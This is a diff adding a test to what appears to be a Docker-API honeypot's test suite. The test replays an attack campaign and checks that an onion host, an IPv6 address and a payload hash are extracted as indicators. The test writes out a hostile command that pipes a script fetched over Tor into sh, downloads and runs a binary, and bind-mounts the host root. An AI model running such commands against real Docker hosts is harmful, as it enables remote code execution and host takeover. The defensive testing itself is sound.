@@ -131,6 +131,20 @@ describe('trap: campaign replays', () => {
     expect(indicators(t, 'ipv4')).toContain('198.51.100.77');
   });
 
+  it('Tor-enabled variant: onion host, IPv6 literal and a payload hash become indicators', async () => {
+    const onion = 'abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuv.onion';
+    const hash = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
+    await http(t.port, 'POST', '/images/create?fromImage=alpine&tag=latest');
+    const cmd = `apk add --no-cache tor curl; (tor &); sleep 30; curl -s --socks5-hostname 127.0.0.1:9050 http://${onion}/x.sh | sh; `
+      + `wget -q http://[2001:db8::5]/m -O /tmp/m && echo "${hash}  /tmp/m" | sha256sum -c && /tmp/m`;
+    const r = await http(t.port, 'POST', '/containers/create', { Image: 'alpine', Cmd: ['sh', '-c', cmd], HostConfig: { Binds: ['/:/hostroot'], AutoRemove: true } });
+    expect(r.status).toBe(201);
+    expect(t.eventsOf('trap.container.create_attempted')[0]).toMatchObject({ auto_remove: true, binds: ['/:/hostroot'] });
+    expect(indicators(t, 'onion')).toContain(onion);
+    expect(indicators(t, 'ipv6')).toContain('2001:db8::5');
+    expect(indicators(t, 'hash')).toContain(hash);
+  });
+
   it('wait is held open until the emulated process exits, concurrently with start', async () => {
     await http(t.port, 'POST', '/images/create?fromImage=alpine');
     const id = ((await http(t.port, 'POST', '/containers/create', { Image: 'alpine', Cmd: ['echo', 'hi'] })).json() as { Id: string }).Id;
